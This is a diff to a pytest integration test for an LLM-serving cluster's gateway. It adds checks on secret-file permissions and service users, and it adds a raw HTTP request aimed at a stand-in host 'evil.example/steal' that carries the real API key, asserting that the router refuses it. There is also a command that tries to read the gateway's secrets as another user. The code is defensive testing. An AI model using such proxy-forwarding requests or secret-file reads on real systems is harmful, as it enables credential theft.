@@ -8,6 +8,7 @@ from __future__ import annotations
 import json
 import os
 import shutil
+import socket
 import threading
 import time
 import urllib.error
@@ -154,6 +155,19 @@ def test_the_hosted_api_answers_when_no_local_backend_is_healthy(pd_cluster: dic
             == "READY"
         )
         assert _Hosted.seen == []
+        # Every secret is root's alone, read by systemd; the gateway, holding the hosted key, runs
+        # as a user of its own, and the engine user cannot read its secrets.
+        for host in HOSTS:
+            modes = ssh(host, "stat -c '%n %U:%G %a' /etc/kimi/secrets/*", cluster_state=pd_cluster).splitlines()
+            assert modes, host
+            # the weights transfer key of a fan-out alone is the engine group's to read (its peer service)
+            expected = {True: " root:kimi 440", False: " root:root 600"}
+            assert all(line.endswith(expected["weights-transfer-key " in line]) for line in modes), (host, modes)
+        gateway_user = ssh("kimi-h4", "ps -o user= -p $(systemctl show -p MainPID --value kimi-gateway)",
+                           cluster_state=pd_cluster)  # fmt: skip
+        assert gateway_user.strip() not in ("root", "kimi")
+        assert ssh("kimi-h4", "runuser -u kimi -- cat /etc/kimi/secrets/kimi-gateway.env >/dev/null 2>&1 || echo refused",
+                   cluster_state=pd_cluster).strip() == "refused"  # fmt: skip
         for host in ("kimi-h1", "kimi-h2", "kimi-h3"):  # no local backend is healthy any more
             ssh(host, "systemctl stop kimi-vllm", cluster_state=pd_cluster)
         time.sleep(3)  # the gateway looks at the router's health every 2 s
@@ -168,6 +182,13 @@ def test_the_hosted_api_answers_when_no_local_backend_is_healthy(pd_cluster: dic
         with pytest.raises(urllib.error.HTTPError) as refused:
             chat(f"http://{router}:8000", prompt, key_file=wrong)
         assert refused.value.code == 401
+        # An absolute-form target with the right key is refused, not forwarded with the hosted key.
+        key = (PD_DIR / "api-key").read_text(encoding="utf-8").strip()
+        with socket.create_connection((router, 8000), timeout=10) as conn:
+            conn.sendall(f"GET http://evil.example/steal HTTP/1.1\r\nHost: evil.example\r\n"
+                         f"Authorization: Bearer {key}\r\nConnection: close\r\n\r\n".encode())  # fmt: skip
+            status = conn.recv(64).split(b" ", 2)[1]
+        assert status == b"400"
         assert len(_Hosted.seen) == 1
         journal = ssh("kimi-h4", "journalctl -u kimi-gateway -o cat --no-pager", cluster_state=pd_cluster)
         assert "fallback: POST /v1/chat/completions" in journal
